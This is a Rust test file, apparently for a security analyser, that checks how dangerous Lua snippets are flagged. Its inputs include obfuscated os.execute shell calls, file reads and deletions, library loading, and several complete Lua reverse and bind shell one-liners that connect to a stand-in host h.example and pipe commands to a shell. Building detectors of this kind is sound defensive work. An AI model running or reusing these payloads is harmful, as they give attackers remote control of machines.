//! Lua.

use super::check;
use aegish_profiles::Lang::Lua;

#[test]
fn running_files_and_connections() {
    check(
        Lua,
        &[
            ("os.execute('id')", &["shell id"]),
            ("os.execute\"id\"", &["shell id"]),
            ("os.execute [[id -u]]", &["shell id -u"]),
            ("local e = os.execute; e('id')", &["shell id"]),
            ("os['execute']('id')", &["shell id"]),
            ("print(io.popen('id'):read('*a'))", &["shell id"]),
            ("local c = 'i' .. 'd'; os.execute(c)", &["shell id"]),
            ("os.execute(string.char(105,100))", &["shell id"]),
            ("os.execute(('di'):reverse())", &["shell id"]),
            ("load('os.execute(1)')()", &["eval lua os.execute(1)"]),
            ("dofile('/srv/x.lua')", &["script lua /srv/x.lua"]),
            ("os.execute(os.getenv('TARGET'))", &["shell /srv/data.bin"]),
            ("posix.exec('/bin/sh')", &["argv /bin/sh"]),
            (
                "local f=io.open('/etc/hosts', 'rb'); io.write(f:read('*a')); io.close(f);",
                &["read /etc/hosts"],
            ),
            (
                "local f=io.open('/tmp/x', 'wb'); f:write('DATA'); io.close(f);",
                &["write /tmp/x <- DATA"],
            ),
            ("for l in io.lines('/etc/hosts') do print(l) end", &["read /etc/hosts"]),
            ("os.remove('/tmp/x')", &["delete /tmp/x"]),
            ("os.rename('a','b')", &["copy a -> b"]),
            ("package.loadlib('./x.so', 'f')", &["load ./x.so"]),
            (
                "local s=require(\"socket\"); local t=assert(s.tcp());\n t:connect('h.example',99);\n while true do\n local r,x=t:receive();local f=assert(io.popen(r,\"r\"));\n local b=assert(f:read(\"*a\"));t:send(b);\n end;",
                &["connect h.example 99", "received"],
            ),
            (
                "require('socket');require('os');t=socket.tcp();t:connect('h.example','99');os.execute('/bin/sh -i <&3 >&3 2>&3');",
                &["connect h.example 99", "attach", "shell /bin/sh -i <&3 >&3 2>&3"],
            ),
            (
                "local k=require('socket'); local s=assert(k.bind('*',99)); local c=s:accept(); while true do local r,x=c:receive(); local f=assert(io.popen(r,'r')) end",
                &["listen * 99", "received"],
            ),
            ("vim.cmd('!id')", &["eval vim !id"]),
        ],
    );
}

#[test]
fn harmless_look_alikes_give_nothing() {
    check(
        Lua,
        &[
            ("print('os.execute(1)')", &["print os.execute(1)\n"]),
            ("-- os.execute('x')", &[]),
            ("--[[ os.execute('x')\n]] print(1)", &["print 1\n"]),
            ("print(1 + 1)", &["print 2\n"]),
            ("local t = {execute = 1}; print(t.execute)", &["print 1\n"]),
            ("print(os.time())", &[]),
            ("for i=1,3 do print(i) end", &[]),
            ("local json = require('cjson')", &[]),
        ],
    );
}

#[test]
fn functions_handed_to_a_call_are_called() {
    check(
        Lua,
        &[
            ("_ENV.os.execute('id')", &["shell id"]),
            ("string.gsub('id','.+',os.execute)", &["shell id", "shell .+"]),
        ],
    );
}
